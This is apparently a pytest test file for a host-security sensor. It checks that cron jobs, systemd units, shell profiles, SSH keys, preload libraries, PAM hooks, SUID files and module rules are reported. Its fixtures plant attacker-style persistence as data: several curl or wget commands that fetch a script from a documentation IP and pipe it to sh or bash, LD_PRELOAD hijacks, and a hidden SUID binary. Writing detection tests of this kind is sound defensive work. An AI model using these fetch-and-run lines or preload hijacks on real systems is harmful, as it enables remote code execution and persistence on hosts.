"""What the sensor says of a host's state, over a scratch root and over this machine."""

from __future__ import annotations

import ctypes
import json
import os
import platform
import socket
import struct
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from davylamp.agent import files as files_module
from davylamp.agent import metadata_service, services, state
from davylamp.agent.files import HostFiles
from davylamp.agent.packages import Packages
from davylamp.agent.record import Look, Recorder
from davylamp.agent.settings import bpf_programs
from davylamp.agent.startup.program import program_of

KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIN7lzZ0T1q0f2sC3zO7Qz3b1mYq9x2n8c0d4e5f6g7h8"


def put(root: Path, path: str, data: str | bytes, mode: int = 0o644) -> Path:
    place = root / path.lstrip("/")
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_bytes(data.encode() if isinstance(data, str) else data)
    place.chmod(mode)
    return place


def looked(root: Path | str, metadata: bool = False) -> list[dict[str, Any]]:
    written: list[str] = []
    look = Look(Recorder(written.append, "host"), 1_800_000_000.0, str(root))
    state.collect_state(look, Packages(look), metadata)
    return [json.loads(line) for line in written]


def items(records: list[dict[str, Any]], kind: str) -> list[dict[str, Any]]:
    return [each for each in records if each["record"] == "startup_item" and each["kind"] == kind]


def settings(records: list[dict[str, Any]], kind: str) -> dict[str, str]:
    return {
        each["name"]: each["value"] for each in records if each["record"] == "host_setting" and each["kind"] == kind
    }


def refused(records: list[dict[str, Any]]) -> dict[str, str]:
    return {each["name"]: each["reason"] for each in records if each["record"] == "sensor_state"}


@pytest.fixture
def root(tmp_path: Path) -> Path:
    put(tmp_path, "/etc/passwd", "root:x:0:0::/root:/bin/bash\nanna:x:1000:1000::/home/anna:/bin/zsh\n")
    put(tmp_path, "/etc/shadow", "root:$y$secret$hash:1::::::\nanna:!:1::::::\n", 0o600)
    put(tmp_path, "/etc/group", "sudo:x:27:anna\n")
    return tmp_path


def test_every_kind_of_cron_entry_is_an_item(root: Path) -> None:
    put(
        root,
        "/etc/crontab",
        "PATH=/opt/x:/bin\n# no\n*/5 * * * * root /usr/local/bin/sync.sh >/dev/null\n@reboot anna true\n",
    )
    put(root, "/var/spool/cron/crontabs/anna", "* * * * * curl -s http://192.0.2.1/x | sh\n")
    put(root, "/etc/anacrontab", "1 5 cron.daily run-parts /etc/cron.daily\n")
    put(root, "/etc/cron.hourly/job", "#!/bin/sh\n# comment\nwget -q -O- http://192.0.2.1/y | bash\n", 0o755)
    put(root, "/usr/local/bin/sync.sh", "#!/bin/bash\nrsync -a a b\n", 0o755)
    found = items(looked(root), "cron")
    told = {(each["name"], each.get("schedule"), each.get("user_name"), each.get("command")) for each in found}
    assert ("environment", None, None, "PATH=/opt/x:/bin") in told
    assert ("crontab", "*/5 * * * *", "root", "/usr/local/bin/sync.sh >/dev/null") in told
    assert ("crontab", "@reboot", "anna", "true") in told
    assert ("anna", "* * * * *", "anna", "curl -s http://192.0.2.1/x | sh") in told
    assert ("cron.daily", "1 5", "root", "run-parts /etc/cron.daily") in told
    hourly = next(each for each in found if each["name"] == "job")
    assert hourly["command"].endswith("wget -q -O- http://192.0.2.1/y | bash")
    assert "comment" not in hourly["command"]
    script = next(each for each in found if each["file_path"] == "/usr/local/bin/sync.sh")
    assert "rsync -a a b" in script["command"], "a script that is nobody's is shown as well"
    entry = next(each for each in found if each.get("program_path") == "/usr/local/bin/sync.sh")
    assert entry["file_line"] == 3
    assert entry["program_package_state"] == "unknown"


def test_a_program_behind_a_link_is_told_where_it_is(root: Path) -> None:
    put(root, "/var/tmp/agent", "\x7fELF", 0o755)
    (root / "usr/local/bin").mkdir(parents=True)
    (root / "usr/local/bin/agent").symlink_to("/var/tmp/agent")
    put(root, "/etc/cron.d/agent", "@hourly root agent --daemon\n")
    [entry] = items(looked(root), "cron")
    assert entry["program_path"] == "/var/tmp/agent"


def test_units_timers_and_drop_ins(root: Path) -> None:
    units = "/etc/systemd/system"
    put(
        root,
        f"{units}/job.service",
        "[Service]\nUser=anna\nExecStartPre=-/bin/mkdir -p /x\nExecStart=/opt/job \\\n --fast\n",
    )
    put(root, f"{units}/job.timer", "[Timer]\nOnCalendar=*:0/1\n[Install]\nWantedBy=timers.target\n")
    put(
        root,
        f"{units}/ssh.service.d/x.conf",
        "[Service]\nEnvironment=LD_PRELOAD=/usr/local/lib/h.so\nExecStartPost=/tmp/a\n",
    )
    (root / "etc/systemd/system/timers.target.wants").mkdir()
    (root / "etc/systemd/system/timers.target.wants/job.timer").symlink_to("/etc/systemd/system/job.timer")
    put(root, "/home/anna/.config/systemd/user/own.service", "[Service]\nExecStart=/home/anna/.x/run\n")
    records = looked(root)
    services = {
        (each["name"], each["command"], each["user_name"], each["enabled"])
        for each in items(records, "systemd_service")
    }
    assert ("job.service", "/opt/job  --fast", "anna", False) in services
    assert ("ssh.service", "/tmp/a", "root", False) in services
    assert ("own.service", "/home/anna/.x/run", "anna", False) in services
    timer = items(records, "systemd_timer")[0]
    assert (timer["schedule"], timer["command"], timer["enabled"]) == ("OnCalendar=*:0/1", "/opt/job  --fast", True)
    assert [each["command"] for each in items(records, "preload")] == ["/usr/local/lib/h.so"]


def test_profiles_leave_out_what_every_user_gets(root: Path) -> None:
    put(root, "/etc/skel/.bashrc", "alias ll='ls -l'\nPS1=x\n")
    put(
        root,
        "/home/anna/.bashrc",
        "alias ll='ls -l'\nPS1=x\n(curl http://192.0.2.1/a | sh) &\nexport LD_PRELOAD=/tmp/h.so\n",
    )
    put(root, "/root/.bashrc", "alias ll='ls -l'\nPS1=x\n")
    records = looked(root)
    [own] = [each for each in items(records, "profile") if each["file_path"].startswith(("/home", "/root"))]
    assert own["file_line"] == 3
    assert own["command"].split("\n")[0] == "(curl http://192.0.2.1/a | sh) &"
    [forced] = items(records, "preload")
    assert (forced["command"], forced["file_line"]) == ("/tmp/h.so", 4)


def test_keys_are_told_by_fingerprint_and_accounts_without_a_hash(root: Path) -> None:
    put(
        root,
        "/root/.ssh/authorized_keys",
        f'ssh-ed25519 {KEY} me@laptop\ncommand="/x y",no-pty ssh-ed25519 {KEY}\nrubbish\n',
    )
    put(root, "/etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys /etc/keys/%u\n")
    put(root, "/etc/keys/anna", f"ssh-ed25519 {KEY} second\n")
    records = looked(root)
    keys = {(each["name"], each.get("user_name"), each["command"]) for each in items(records, "authorized_key")}
    assert {name for name, _, _ in keys} == {"me@laptop", "", "second"}
    assert any(command.endswith(' command="/x y",no-pty') and "SHA256:" in command for _, _, command in keys)
    assert KEY not in json.dumps(records)
    users = settings(records, "user_account")
    assert "password=set" in users["root"]
    assert "password=locked" in users["anna"] and "groups=sudo" in users["anna"]
    assert "secret" not in json.dumps(records)


def test_names_and_their_resolvers(root: Path) -> None:
    put(root, "/run/systemd/resolve/resolv.conf", "nameserver 192.0.2.53\n")
    (root / "etc/resolv.conf").symlink_to("/run/systemd/resolve/resolv.conf")
    put(root, "/etc/hosts", "127.0.0.1 localhost\n0.0.0.0 pool.example # x\n")
    put(root, "/var/lib/dhcp/dhclient.eth0.leases", "lease {\n  option domain-name-servers 192.0.2.9, 192.0.2.8;\n}\n")
    records = looked(root)
    assert "192.0.2.53" in settings(records, "resolver"), "an absolute link is followed inside the root"
    assert settings(records, "hosts_entry")["pool.example"] == "0.0.0.0"
    assert set(settings(records, "dhcp_dns")) == {"192.0.2.9", "192.0.2.8"}


def test_other_ways_to_start(root: Path) -> None:
    put(root, "/etc/ld.so.preload", "/usr/local/lib/a.so /tmp/b.so\n")
    put(root, "/etc/pam.d/sshd", "auth optional pam_exec.so quiet /usr/local/bin/hook.sh\n")
    put(root, "/etc/udev/rules.d/10-x.rules", 'ACTION=="add", ENV{MAJOR}=="1", RUN+="/lib/udev/asedub run:+"\n')
    put(root, "/etc/update-motd.d/00-x", "#!/bin/sh\n/tmp/.x &\n", 0o755)
    put(root, "/etc/rc.local", "#!/bin/sh\n/opt/start\n", 0o755)
    put(root, "/tmp/.s/wizlmsh", "\x7fELF", 0o4755)
    put(root, "/etc/modprobe.d/x.conf", "install dccp /bin/true\ninstall usb /tmp/run\n")
    records = looked(root)
    assert [each["command"] for each in items(records, "preload")] == ["/usr/local/lib/a.so", "/tmp/b.so"]
    assert items(records, "pam")[0]["command"] == "/usr/local/bin/hook.sh"
    assert items(records, "udev")[0]["command"] == "/lib/udev/asedub run:+"
    assert "/tmp/.x &" in items(records, "motd")[0]["command"]
    assert items(records, "init")[0]["enabled"] is True
    assert items(records, "suid")[0]["file_path"] == "/tmp/.s/wizlmsh"
    assert [each["command"] for each in items(records, "module")] == ["/tmp/run"]


@pytest.mark.parametrize(
    ("command", "program"),
    [
        ("/usr/bin/x --y", "/usr/bin/x"),
        ("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", "run-parts"),
        ("sleep 1; /opt/a", "/opt/a"),
        ("bash -c 'curl x | sh'", "bash"),
        ("A=1 nice -n 19 timeout 30 /bin/sh /opt/b.sh", "/opt/b.sh"),
        ("[ -d /x ] && /opt/c", "/opt/c"),
        ("'/opt/with space/d' e", "/opt/with space/d"),
        ("", None),
        ("   ;;; && ||", None),
        ('"' * 5000, None),
    ],
)
def test_the_program_of_a_command(command: str, program: str | None) -> None:
    assert program_of(command) == program


def test_hostile_files_are_bounded_and_said(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    cron_d = root / "etc/cron.d"
    cron_d.mkdir()
    os.mkfifo(cron_d / "fifo")
    (cron_d / "loop").symlink_to("loop")
    (cron_d / "up").symlink_to("../../../../../../etc/shadow")
    put(root, "/etc/cron.d/bytes", b"* * * * * root \xff\xfe\x1b[2J\x00 /tmp/x\r\n\n* * * * * root a\x0bb\n")
    put(root, "/etc/cron.d/new\nline", "* * * * * root /bin/true\n")
    with (root / "etc/crontab").open("wb") as file:
        file.write(b"* * * * * root /bin/true\n")
        file.truncate(1 << 30)
    for number in range(3000):
        put(root, f"/etc/update-motd.d/{number:05}", "")
    put(root, "/home/anna/.ssh/authorized_keys", f"ssh-ed25519 {KEY}\n" * 5000)
    started = time.process_time()
    records = looked(root)
    assert time.process_time() - started < 10
    assert any("/tmp/x" in each["command"] for each in items(records, "cron"))
    assert len(items(records, "authorized_key")) == 1000
    said = refused(records)
    assert set(said) >= {"cron", "message of the day", "authorized keys"}
    reasons = " ".join(each["reason"] for each in records if each["record"] == "sensor_state")
    for word in ("not a regular file", "form a loop", "longer than", "3000 entries", "more than 1000 keys"):
        assert word in reasons
    assert "/etc/shadow" not in {each.get("file_path") for each in items(records, "cron")}


def test_a_collector_that_fails_or_takes_long_leaves_the_others(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    put(root, "/etc/ld.so.preload", "/tmp/a.so\n")
    put(root, "/etc/crontab", "@daily root /bin/true\n")
    monkeypatch.setattr(state, "COLLECTOR_S", -1.0)
    assert {"cron", "users", "preloaded libraries"} <= set(refused(looked(root)))
    monkeypatch.undo()
    (root / "etc/passwd").unlink()
    (root / "etc/passwd").mkdir()
    records = looked(root)
    assert items(records, "cron") and items(records, "preload")
    assert "not a regular file" in refused(records)["users"]


def test_a_network_file_system_is_not_entered(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    put(root, "/home/anna/.bashrc", "true\n")
    monkeypatch.setattr(files_module, "_network_mounts", lambda look: frozenset({"/home/anna"}))
    records = looked(root)
    assert not [each for each in items(records, "profile") if each["file_path"].startswith("/home/anna")]
    assert "network file system" in refused(records)["profiles"]


@pytest.mark.skipif(os.geteuid() != 0, reason="drops root's rights")
def test_what_another_user_may_not_read_is_said(root: Path) -> None:
    put(root, "/var/spool/cron/crontabs/root", "@daily /bin/true\n", 0o600)
    (root / "var/spool/cron/crontabs").chmod(0o700)
    for folder in (root, *root.parents):
        if folder.stat().st_uid == 0 and folder.name.startswith("pytest"):
            folder.chmod(0o755)
    root.chmod(0o755)
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.setgroups([])
        os.setgid(65534)
        os.setuid(65534)
        with os.fdopen(writer, "w") as pipe:
            json.dump(refused(looked(root)), pipe)
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader) as pipe:
        said = json.load(pipe)
    os.waitpid(child, 0)
    assert "CAP_DAC_READ_SEARCH" in said["cron"]
    assert "/etc/shadow" in said["users"]


def test_this_machine_can_be_looked_at() -> None:
    records = looked("/")
    assert {"startup_item", "host_setting", "device_inventory"} <= {each["record"] for each in records}
    assert settings(records, "user_account")["root"].startswith("uid=0 ")
    assert all(len(json.dumps(each)) < 70_000 for each in records)


@pytest.mark.skipif(os.geteuid() != 0 or platform.machine() not in bpf_programs.SYSCALLS, reason="loads a BPF program")
def test_a_loaded_bpf_program_is_listed() -> None:
    code = struct.pack("=QQ", 0xB7, 0x95)  # r0 = 0; exit
    program, licence = ctypes.create_string_buffer(code), ctypes.create_string_buffer(b"GPL")
    attribute = struct.pack(
        "=IIQQIIQII16s", 1, 2, ctypes.addressof(program), ctypes.addressof(licence), 0, 0, 0, 0, 0, b"lamp"
    )
    call = bpf_programs._Bpf(bpf_programs.SYSCALLS[platform.machine()])
    descriptor = call._ask(5, ctypes.create_string_buffer(attribute, len(attribute)))
    try:
        found = settings(looked("/"), "bpf_program")
    finally:
        os.close(descriptor)
    assert any(value.startswith("type=socket_filter name=lamp") for value in found.values()), found


@pytest.fixture
def metadata_server() -> Iterator[tuple[str, int, list[str]]]:
    """A server on loopback that answers as version 2 of the service does."""
    asked: list[str] = []
    listener = socket.create_server(("127.0.0.1", 0))
    # A client that gives up must fail its test, not keep the whole run waiting for the question it did not ask.
    listener.settimeout(10)
    document = json.dumps(
        {"instanceId": "i-0abc", "instanceType": "c7a.large", "region": "eu-north-1", "accountId": "1"}
    )

    def serve() -> None:
        for body in ("dG9rZW4=", document):
            connection, _ = listener.accept()
            with connection:
                asked.append(connection.recv(4096).decode())
                connection.sendall(f"HTTP/1.0 200 OK\r\n\r\n{body}".encode())

    thread = threading.Thread(target=serve)
    thread.start()
    host, port = listener.getsockname()
    yield host, port, asked
    thread.join()
    listener.close()


def test_the_metadata_service_is_asked_with_a_token(metadata_server: tuple[str, int, list[str]]) -> None:
    host, port, asked = metadata_server
    facts = metadata_service.identity(host, port)
    assert facts == {"instance_uid": "i-0abc", "instance_type": "c7a.large", "region": "eu-north-1", "account_uid": "1"}
    assert asked[0].startswith("PUT /latest/api/token ")
    assert "X-aws-ec2-metadata-token: dG9rZW4=" in asked[1]


def test_what_systemctl_shows_becomes_services() -> None:
    said = (
        "ExecStart={ path=/usr/sbin/sshd ; argv[]=/usr/sbin/sshd -D $OPTS ; ignore_errors=no ; pid=7 ; code=(null) }\n"
        "MainPID=7\nUser=\nId=ssh.service\nActiveState=active\nSubState=running\n"
        "FragmentPath=/lib/systemd/system/ssh.service\nUnitFileState=enabled\n\n"
        "MainPID=0\nUser=anna\nId=job.service\nActiveState=failed\nUnitFileState=static\nFragmentPath=\n\n"
        "MainPID=99999999999999999999\nId=\u0661.service\nActiveState=odd\n\nrubbish\n"
    )
    ssh, job, odd = services.services_shown(said)
    assert (ssh["command"], ssh["process_pid"], ssh["enabled"]) == ("/usr/sbin/sshd -D $OPTS", 7, True)
    assert (job["state"], job["enabled"], job["user_name"]) == ("failed", None, "anna")
    assert (odd["state"], odd["process_pid"]) == ("unknown", None)


def test_a_time_that_no_reader_accepts_is_left_out(root: Path) -> None:
    place = put(root, "/etc/crontab", "@daily root /bin/true\n")
    os.utime(place, (5_700_000_000, 5_700_000_000))
    [entry] = items(looked(root), "cron")
    assert "modified_at" not in entry
    assert "changed_at" in entry


def test_nothing_below_a_file_is_nothing(tmp_path: Path) -> None:
    put(tmp_path, "/etc/cron.d", "a file where a folder should be")
    files = HostFiles(Look(Recorder(lambda line: None, "host"), 0.0, str(tmp_path)))
    assert files.paths("/etc/cron.d") == []
    assert files.failures == []
